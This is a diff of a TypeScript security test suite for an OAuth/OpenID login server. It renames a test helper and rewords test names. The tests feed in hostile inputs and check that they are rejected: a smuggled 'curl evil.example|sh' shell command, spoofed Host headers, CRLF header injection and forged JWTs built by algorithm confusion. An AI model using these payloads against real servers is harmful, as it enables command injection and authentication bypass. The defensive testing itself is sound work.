@@ -5,7 +5,7 @@ import { after, before, describe, it } from 'node:test';
 import { aCode, aPkcePair, aTokenSet, basic, get, introspect, redeem, token, userinfo, WEB } from '../build/client.ts';
 import { fixedClock } from '../build/clock.ts';
 import { aClient, anApplication, aPublicClient, aUser, CALLBACK, PASSWORD } from '../build/fixture.ts';
-import { type House, openHouse } from '../build/house.ts';
+import { startTestServer, type TestServer } from '../build/test-server.ts';
 import { answerIn, authorizationUrl, formWith, query, type Seen, signIn, Visitor } from '../build/visitor.ts';
 import { exchangeBatch, type Received } from './fuzz/wire.ts';
 
@@ -13,12 +13,12 @@ const FORM = { 'content-type': 'application/x-www-form-urlencoded' };
 /** An answer that does not come by then does not come. */
 const patience = () => AbortSignal.timeout(3000);
 
-let house: House;
+let server: TestServer;
 /** Behind a proxy, where every request can come from an address of its own. */
-let proxied: House;
+let proxied: TestServer;
 before(async () => {
-  proxied = await openHouse({ env: { TRUSTED_PROXIES: '127.0.0.1' }, clock: fixedClock() });
-  house = await openHouse({
+  proxied = await startTestServer({ env: { TRUSTED_PROXIES: '127.0.0.1' }, clock: fixedClock() });
+  server = await startTestServer({
     applications: [
       anApplication({
         clients: [
@@ -34,7 +34,7 @@ before(async () => {
     users: [aUser(), aUser({ username: 'mallory', email: 'mallory@example.com', phone_number: '+8613800000009' })],
   });
 });
-after(() => Promise.all([house.close(), proxied.close()]));
+after(() => Promise.all([server.close(), proxied.close()]));
 
 const guessFrom = (address: string, username: string) =>
   token(
@@ -45,7 +45,7 @@ const guessFrom = (address: string, username: string) =>
 
 const wire = async (text: string): Promise<Received | undefined> => {
   const sent = { index: 0, route: '', method: 'GET', hostile: true, bytes: Buffer.from(text, 'latin1') };
-  return (await exchangeBatch(Number(new URL(house.base).port), [sent]))[0]?.received[0];
+  return (await exchangeBatch(Number(new URL(server.base).port), [sent]))[0]?.received[0];
 };
 
 describe('characters that no header may hold', () => {
@@ -53,7 +53,7 @@ describe('characters that no header may hold', () => {
   for (const state of ['a\r\nX-Injected: 1', '中文', 'é', 'tab\there', 'hash#tag', 'a b', '"<>', '\u{1f47e}']) {
     it(`a posted request with the raw state ${JSON.stringify(state)} is answered, state unchanged (row 10)`, async () => {
       const posted = { method: 'POST', body: `${started}&state=${state}`, headers: FORM, signal: patience() };
-      const seen = await new Visitor(house.base).follow(`${house.at()}/auth`, posted);
+      const seen = await new Visitor(server.base).follow(`${server.at()}/auth`, posted);
       assert.equal(answerIn(seen).error, 'login_required');
       assert.equal(answerIn(seen).state, state);
     });
@@ -63,17 +63,22 @@ describe('characters that no header may hold', () => {
     it(`a sealed request with ${JSON.stringify(tail)} behind it does not open (row 26)`, async () => {
       const { visitor, sealed } = await atLogin();
       const body = query({ pending: sealed + tail, username: 'mallory', password: PASSWORD });
-      const seen = await visitor.go(`${house.base}/login`, { method: 'POST', body, headers: FORM, signal: patience() });
+      const seen = await visitor.go(`${server.base}/login`, {
+        method: 'POST',
+        body,
+        headers: FORM,
+        signal: patience(),
+      });
       assert.equal(seen.status, 400);
       assert.equal(seen.location, undefined);
     });
   }
 
   it('never sends a browser to an address that is longer than this server accepts (row 26)', async () => {
-    const visitor = new Visitor(house.base);
+    const visitor = new Visitor(server.base);
     visitor.cookies.set('gatehouse_session', 'no-session');
     const body = `${started.replace('prompt=none&', '')}&state=${'中'.repeat(12_000)}`;
-    const seen = await visitor.follow(`${house.at()}/auth`, {
+    const seen = await visitor.follow(`${server.at()}/auth`, {
       method: 'POST',
       body,
       headers: FORM,
@@ -83,21 +88,21 @@ describe('characters that no header may hold', () => {
   });
 });
 
-describe('one request must not hold up the others', () => {
+describe('one request must not delay the others', () => {
   it('a user name of many combining marks costs no more than another (row 42)', async () => {
     // Sorting them (Unicode canonical ordering) takes time that grows with the square of their number.
     const username = `a${'\u0315'.repeat(15_000)}${'\u0316'.repeat(15_000)}`;
     const started = performance.now();
     const longest = longestPause();
-    const answered = await token(house, { grant_type: 'password', username: 'plain', password: 'x' });
+    const answered = await token(server, { grant_type: 'password', username: 'plain', password: 'x' });
     const usual = performance.now() - started;
-    const marked = await token(house, `grant_type=password&password=x&username=${username}`);
+    const marked = await token(server, `grant_type=password&password=x&username=${username}`);
     assert.equal(marked.text, answered.text);
     const pause = longest();
-    assert(pause < Math.max(250, usual * 3), `the server stood still for ${Math.round(pause)} ms`);
+    assert(pause < Math.max(250, usual * 3), `the event loop was blocked for ${Math.round(pause)} ms`);
   });
 
-  it('a storm of logins is told to come back, and introspection goes on (row 32)', async () => {
+  it('login flood: logins get 503, and introspection goes on (row 32)', async () => {
     const { access_token } = await aTokenSet(proxied);
     let over = false;
     const crowd = 100 + 2 * availableParallelism();
@@ -113,7 +118,7 @@ describe('one request must not hold up the others', () => {
       times.push(performance.now() - started);
     }
     const refused = (await storm).filter(({ status }) => status === 503);
-    assert(refused.length > 0, 'the queue took everybody');
+    assert(refused.length > 0, 'the queue accepted every login');
     for (const { headers, json } of refused) {
       assert.match(headers.get('retry-after') ?? '', /^[1-9]\d*$/);
       assert.equal(json.error, 'temporarily_unavailable');
@@ -126,22 +131,22 @@ describe('one request must not hold up the others', () => {
 describe('what a caller made up stays out of logs and shells', () => {
   it('an unknown application code is not logged at full length', async () => {
     const code = `x${'y'.repeat(30_000)}`;
-    assert.equal((await get(`${house.at(code)}/jwks`)).status, 404);
-    assert(!house.logged().includes(code.slice(0, 1000)));
+    assert.equal((await get(`${server.at(code)}/jwks`)).status, 404);
+    assert(!server.logged().includes(code.slice(0, 1000)));
   });
 
   it('the demo page offers no shell line made from what is no code', async () => {
-    const { text } = await get(`${house.base}/demo/callback?code=${encodeURIComponent('x;curl evil.example|sh;#')}`);
+    const { text } = await get(`${server.base}/demo/callback?code=${encodeURIComponent('x;curl evil.example|sh;#')}`);
     const lines = text.match(/<pre[\s\S]*?<\/pre>/g) ?? [];
     assert(!lines.some(line => line.includes('evil.example')), lines.join('\n'));
     assert.match(
-      (await get(`${house.base}/demo/callback?code=gac_abc-DEF_123`)).text,
+      (await get(`${server.base}/demo/callback?code=gac_abc-DEF_123`)).text,
       /<pre[^>]*>[^<]*gac_abc-DEF_123/,
     );
   });
 });
 
-describe('throttling cannot be walked around or used to look around (row 42)', () => {
+describe('throttling cannot be bypassed, and tells nothing about users (row 42)', () => {
   it('all addresses of one IPv6 network (/64) share their attempts', async () => {
     const statuses: number[] = [];
     for (let from = 0; from < 120; from += 20) {
@@ -157,7 +162,7 @@ describe('throttling cannot be walked around or used to look around (row 42)', (
       ['alice@example.com', 'nobody@example.com'].map(async username => {
         const statuses = [];
         for (let tries = 0; tries < 12; tries++) {
-          const { status, headers } = await token(house, { grant_type: 'password', username, password: 'wrong' });
+          const { status, headers } = await token(server, { grant_type: 'password', username, password: 'wrong' });
           statuses.push(`${status} ${headers.has('retry-after')}`);
         }
         return statuses;
@@ -170,7 +175,7 @@ describe('throttling cannot be walked around or used to look around (row 42)', (
 
 describe('requests that two servers could read differently', () => {
   it('accepts the absolute form of an address (RFC 9112 section 3.2.2)', async () => {
-    const received = await wire(`GET ${house.at()}/jwks HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n`);
+    const received = await wire(`GET ${server.at()}/jwks HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n`);
     assert.equal(received?.status, 200);
   });
 
@@ -181,7 +186,7 @@ describe('requests that two servers could read differently', () => {
   });
 
   it('takes no address from Host and X-Forwarded-Host (running.md: never from request headers)', async () => {
-    const path = new URL(`${house.at()}/.well-known/openid-configuration`).pathname;
+    const path = new URL(`${server.at()}/.well-known/openid-configuration`).pathname;
     const headers = 'Host: evil.example\r\nX-Forwarded-Host: evil.example\r\nForwarded: host=evil.example';
     const received = await wire(`GET ${path} HTTP/1.1\r\n${headers}\r\nConnection: close\r\n\r\n`);
     assert.equal(received?.status, 200);
@@ -189,7 +194,7 @@ describe('requests that two servers could read differently', () => {
   });
 });
 
-describe('somebody else’s login and somebody else’s code', () => {
+describe('attacks on the login and the code of another user', () => {
   for (const headers of [
     { origin: 'https://evil.example' },
     { origin: 'null' },
@@ -200,54 +205,54 @@ describe('somebody else’s login and somebody else’s code', () => {
       const { visitor, sealed } = await atLogin();
       const body = query({ pending: sealed, username: 'mallory', password: PASSWORD });
       const posted = { method: 'POST', body, headers: { ...FORM, ...(headers as Record<string, string>) } };
-      assert.equal((await visitor.go(`${house.base}/login`, posted)).status, 403);
+      assert.equal((await visitor.go(`${server.base}/login`, posted)).status, 403);
       assert(!visitor.cookies.has('gatehouse_session'));
     });
   }
 
   it('opens a login page only in the browser it was made for, and resumes only its own application (row 26)', async () => {
     const { visitor, sealed } = await atLogin();
-    const victim = new Visitor(house.base);
-    await victim.go(authorizationUrl(house));
-    assert.equal((await victim.go(`${house.base}/login?pending=${sealed}`)).status, 400);
-    const elsewhere = await visitor.go(`${house.at('bank')}/auth?gatehouse_pending=${sealed}`);
+    const victim = new Visitor(server.base);
+    await victim.go(authorizationUrl(server));
+    assert.equal((await victim.go(`${server.base}/login?pending=${sealed}`)).status, 400);
+    const elsewhere = await visitor.go(`${server.at('bank')}/auth?gatehouse_pending=${sealed}`);
     assert.equal(elsewhere.status, 400);
     assert.equal(elsewhere.location, undefined);
   });
 
   it('gives a new session at login, whatever the browser brought, and ends the old one', async () => {
-    const visitor = new Visitor(house.base);
+    const visitor = new Visitor(server.base);
     visitor.cookies.set('gatehouse_session', 'planted');
-    await signIn(house, {}, { visitor, username: 'mallory' });
+    await signIn(server, {}, { visitor, username: 'mallory' });
     const first = visitor.cookies.get('gatehouse_session') ?? '';
     assert.notEqual(first, 'planted');
-    await signIn(house, { prompt: 'login' }, { visitor, username: 'mallory' });
-    const thief = new Visitor(house.base);
+    await signIn(server, { prompt: 'login' }, { visitor, username: 'mallory' });
+    const thief = new Visitor(server.base);
     thief.cookies.set('gatehouse_session', first);
-    const seen: Seen = await thief.go(authorizationUrl(house, { prompt: 'none' }));
+    const seen: Seen = await thief.go(authorizationUrl(server, { prompt: 'none' }));
     assert.equal(answerIn(seen).error, 'login_required');
   });
 
   it('an injected code helps neither another client, nor without its verifier, nor with one it never had', async () => {
     const { verifier, challenge } = aPkcePair();
     const login = { username: 'mallory' };
-    const code = await aCode(house, { code_challenge: challenge, code_challenge_method: 'S256' }, login);
+    const code = await aCode(server, { code_challenge: challenge, code_challenge_method: 'S256' }, login);
     const other = { auth: basic('other', 'other-secret-1') };
-    assert.equal((await redeem(house, code, { code_verifier: verifier }, other)).json.error, 'invalid_grant');
-    assert.equal((await redeem(house, code, { code_verifier: verifier, client_id: 'spa' }, {})).status, 400);
-    assert.equal((await redeem(house, code, { code_verifier: challenge }, {})).status, 400);
-    assert.equal((await redeem(house, code)).json.error, 'invalid_grant');
-    const bare = await aCode(house, {}, login);
-    assert.equal((await redeem(house, bare, { code_verifier: verifier }, {})).json.error, 'invalid_grant');
-    assert.equal((await redeem(house, code, { code_verifier: verifier }, {})).status, 200);
+    assert.equal((await redeem(server, code, { code_verifier: verifier }, other)).json.error, 'invalid_grant');
+    assert.equal((await redeem(server, code, { code_verifier: verifier, client_id: 'spa' }, {})).status, 400);
+    assert.equal((await redeem(server, code, { code_verifier: challenge }, {})).status, 400);
+    assert.equal((await redeem(server, code)).json.error, 'invalid_grant');
+    const bare = await aCode(server, {}, login);
+    assert.equal((await redeem(server, bare, { code_verifier: verifier }, {})).json.error, 'invalid_grant');
+    assert.equal((await redeem(server, code, { code_verifier: verifier }, {})).status, 200);
   });
 
   it('takes no JWT that was signed with less than our private key (RFC 8725 sections 2.1 and 3.1)', async () => {
-    const { access_token } = await aTokenSet(house, { username: 'mallory' }, { auth: basic('jwt', 'jwt-secret-1') });
-    assert.equal((await userinfo(house, access_token)).status, 200);
+    const { access_token } = await aTokenSet(server, { username: 'mallory' }, { auth: basic('jwt', 'jwt-secret-1') });
+    assert.equal((await userinfo(server, access_token)).status, 200);
     const [head = '', claims = '', signature = ''] = access_token.split('.');
     const { kid } = JSON.parse(Buffer.from(head, 'base64url').toString());
-    const [jwk] = (await get(`${house.at()}/jwks`)).json.keys;
+    const [jwk] = (await get(`${server.at()}/jwks`)).json.keys;
     const pem = createPublicKey({ key: jwk, format: 'jwk' }).export({ type: 'spki', format: 'pem' });
     const header = (fields: object) =>
       Buffer.from(JSON.stringify({ typ: 'at+jwt', kid, ...fields })).toString('base64url');
@@ -258,13 +263,13 @@ describe('somebody else’s login and somebody else’s code', () => {
       `${symmetric}.${createHmac('sha256', pem).update(symmetric).digest('base64url')}`,
       `${header({ alg: 'RS256', jwk })}.${claims}.${signature}`,
     ];
-    for (const jwt of forged) assert.equal((await userinfo(house, jwt)).status, 401, jwt);
+    for (const jwt of forged) assert.equal((await userinfo(server, jwt)).status, 401, jwt);
   });
 });
 
 async function atLogin(): Promise<{ visitor: Visitor; sealed: string }> {
-  const visitor = new Visitor(house.base);
-  const page = await visitor.follow(authorizationUrl(house));
+  const visitor = new Visitor(server.base);
+  const page = await visitor.follow(authorizationUrl(server));
   return { visitor, sealed: formWith(page, 'password').fields.get('pending') ?? '' };
 }
 
